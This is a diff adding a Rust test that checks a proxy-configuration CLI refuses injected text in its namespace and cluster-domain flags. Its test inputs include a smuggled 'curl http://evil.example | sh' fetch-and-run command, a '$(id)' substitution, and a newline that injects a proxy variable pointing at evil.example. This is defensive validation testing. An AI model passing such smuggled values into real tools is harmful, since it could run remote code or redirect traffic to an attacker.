@@ -308,3 +308,44 @@ fn vendors_from_the_environment() {
     );
     assert!(out.contains("denied_private_address"), "{code:?} {out}");
 }
+
+#[test]
+fn agent_env_refuses_shell_text_in_namespace_and_cluster_domain() {
+    let base = [
+        "agent-env",
+        "--proxy-url",
+        "http://egressd:3128",
+        "--vendor",
+        "castai-us",
+    ];
+    for (flag, value) in [
+        ("--namespace", "castai; curl http://evil.example | sh"),
+        ("--namespace", "$(id)"),
+        ("--cluster-domain", "cluster.local,.evil.example"),
+        (
+            "--cluster-domain",
+            "cluster.local\nHTTPS_PROXY=http://evil.example:3128",
+        ),
+    ] {
+        let mut args = base.to_vec();
+        args.extend([flag, value]);
+        let (code, out, err) = run(&args, &[]);
+        assert_eq!(code, Some(2), "{flag} {value:?}: {out}");
+        assert!(out.is_empty(), "nothing is printed: {out}");
+        assert!(err.contains(flag), "{err}");
+    }
+    let (code, _, err) = run(
+        &[
+            "noproxy",
+            "suggest",
+            "--pod-cidr",
+            "10.244.0.0/16",
+            "--service-cidr",
+            "10.96.0.0/12",
+            "--cluster-domain",
+            "cluster.local,evil.example",
+        ],
+        &[],
+    );
+    assert_eq!(code, Some(2), "{err}");
+}
